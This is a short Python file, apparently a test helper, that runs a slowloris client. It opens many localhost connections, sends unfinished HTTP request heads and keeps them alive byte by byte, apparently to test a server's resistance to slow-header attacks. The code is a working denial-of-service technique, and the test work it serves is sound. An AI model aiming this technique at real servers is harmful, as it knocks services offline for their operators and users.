"""A slowloris attacker as its own process: `python slowloris_client.py PORT COUNT SOURCE`.

Opens COUNT connections from SOURCE to 127.0.0.1:PORT, sends each an unfinished request head, prints
`ready`, then adds one byte to a head every 2 ms (each connection every ~2 s) until its stdin closes.
A separate process, so that its work does not compete with the measured client for the test's GIL.
"""

from __future__ import annotations

import contextlib
import resource
import socket
import sys
import threading
import time


def main() -> None:
    port, count, source = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(max(soft, count + 64), hard), hard))
    held = []
    for _ in range(count):
        s = socket.socket()
        s.bind((source, 0))
        s.connect(("127.0.0.1", port))
        s.sendall(b"GET /api/predict/svc/ok HTTP/1.1\r\nHost: a\r\nX-Slow: ")
        held.append(s)
    print("ready", flush=True)
    stop = threading.Event()

    def wait_stdin() -> None:
        sys.stdin.read()
        stop.set()

    threading.Thread(target=wait_stdin, daemon=True).start()
    while not stop.is_set():
        for s in held:
            if stop.is_set():
                break
            with contextlib.suppress(OSError):
                s.send(b"a")
            time.sleep(0.002)
    for s in held:
        s.close()


if __name__ == "__main__":
    main()
